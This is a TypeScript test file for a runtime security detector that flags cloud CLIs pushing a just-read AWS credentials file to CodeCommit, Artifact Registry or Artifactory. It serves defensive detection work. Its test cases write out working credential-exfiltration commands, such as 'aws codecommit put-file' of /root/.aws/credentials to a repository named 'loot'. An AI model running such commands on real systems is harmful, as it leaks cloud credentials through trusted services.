/**
 * Cloud CLIs that put a local file into a code repository or a package registry (found by red-team review):
 * `aws codecommit put-file --file-content fileb:///root/.aws/credentials` commits a credential to a
 * CodeCommit repository with no git at all, a few KiB over HTTPS, and raised nothing; so did the same file
 * through Artifact Registry, Azure Artifacts or Artifactory. The first connect names the destination.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

const API_IP = '52.94.228.10';

function secretThen(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'prod', pod: 'worker-3', name: 'worker' });
  const sh = s.init(c);
  s.read(sh, '/root/.aws/credentials', 116).wait(2_000);
  const p = s.exec(c, binary, args, { parent: sh });
  s.read(p, '/root/.aws/credentials', 116).wait(30).connect(p, API_IP, 443).wait(10);
  s.send(p, API_IP, 443, 3_000).wait(300).exit(p);
  return run(s.events).alerts;
}

describe('cloud CLIs uploading a file to a repository or registry', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`aws codecommit put-file of a credential is high (${source})`, () => {
      const alerts = secretThen(
        '/usr/local/bin/aws',
        'codecommit put-file --repository-name loot --branch-name main --file-content fileb:///root/.aws/credentials --file-path c',
        source,
      );
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'aws', destination: `${API_IP}:443` },
      ]);
      expect(alerts[0]!.push.remote).toBe('loot');
    });
  }

  it('the AWS CLI v1 run by its interpreter is the same push', () => {
    const alerts = secretThen(
      '/usr/bin/python3',
      '/usr/local/bin/aws codecommit put-file --repository-name loot --branch-name main --file-content fileb:///root/.aws/credentials --file-path c',
    );
    expect(brief(alerts)).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'aws' }]);
  });

  it('gcloud artifacts generic upload and jf rt upload are high', () => {
    for (const [binary, args, tool] of [
      [
        '/usr/bin/gcloud',
        'artifacts generic upload --source=/root/.aws/credentials --package=x --version=1 --repository=r --location=us',
        'gcloud',
      ],
      ['/usr/local/bin/jf', 'rt upload /root/.aws/credentials generic-local/x', 'jfrog'],
    ] as const)
      expect(brief(secretThen(binary, args))).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high', tool },
      ]);
  });

  it('their logins and reads stay quiet', () => {
    expect(secretThen('/usr/local/bin/aws', 'ecr get-login-password --region us-east-1')).toEqual([]);
    expect(secretThen('/usr/local/bin/aws', 'codecommit get-file --repository-name app --file-path README.md')).toEqual(
      [],
    );
  });
});
